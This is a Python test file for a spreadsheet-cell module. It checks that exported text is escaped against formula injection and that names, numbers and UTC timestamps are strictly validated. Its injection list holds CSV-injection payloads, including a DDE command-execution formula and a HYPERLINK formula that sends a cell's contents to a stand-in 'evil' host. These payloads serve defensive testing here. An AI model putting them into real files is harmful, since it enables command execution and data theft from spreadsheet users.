"""Cells: text that is no formula and comes back, numbers and times that are exact or refused."""

from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alphapulse.domain.transaction_files.cells import (
    TEXT_LENGTH_MAX,
    escaped,
    moment_of,
    moment_text,
    name_of,
    number_of,
    text_of,
    unescaped,
)
from alphapulse.errors import InvalidInput

LATEST = datetime(2100, 1, 1, tzinfo=UTC)

# Source: OWASP, "CSV Injection", and the corpora of its testing guide (2026-11-23).
INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil?x="&A1,"click")',
    "'=1+1",
    "''=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_formula_is_text_to_a_spreadsheet_and_itself_when_read(text: str) -> None:
    assert escaped(text).startswith("'")
    assert unescaped(escaped(text)) == text


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not escaped(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_an_apostrophe_of_somebody_elses_stays() -> None:
    assert unescaped("'tis") == "'tis"


@pytest.mark.parametrize("text", ["a\0b", "\ud800", "x" * (TEXT_LENGTH_MAX + 1)])
def test_text_that_cannot_be_stored_is_refused(text: str) -> None:
    with pytest.raises(InvalidInput):
        text_of(text, "note")


@pytest.mark.parametrize("text", ["", " BTC", "B\u202eTC", "B\u200bTC", "B\nTC"])
def test_a_name_is_what_a_person_sees_of_it(text: str) -> None:
    with pytest.raises(InvalidInput):
        name_of(text, "asset")


@pytest.mark.parametrize(
    "text",
    ["", "NaN", "Infinity", "1e5", "1_000", "1,5", " 1", "+1", ".5", "٣", "0x1", "1" * 25,
     "0." + "1" * 31],
)  # fmt: skip
def test_a_number_is_plain_or_none(text: str) -> None:
    with pytest.raises(InvalidInput):
        number_of(text, "quantity")


def test_zeros_are_no_digits_too_many() -> None:
    assert number_of("0" * 40 + "1.5" + "0" * 40, "quantity") == Decimal("1.5")


@given(st.datetimes(datetime(1970, 1, 1), datetime(2099, 1, 1), timezones=st.just(UTC)))
def test_a_time_comes_back_to_the_microsecond(moment: datetime) -> None:
    assert moment_of(moment_text(moment), "at", LATEST) == moment


@pytest.mark.parametrize(
    "text",
    ["", "2026-01-31", "2026-02-30T00:00:00Z", "2026-01-31T00:00:00", "2026-01-31T00:00:00+01:00",
     "1969-12-31T23:59:59Z", "2100-01-01T00:00:00.000001Z", "2026-W01-1T00:00:00Z"],
)  # fmt: skip
def test_a_time_is_utc_and_was(text: str) -> None:
    with pytest.raises(InvalidInput):
        moment_of(text, "at", LATEST)
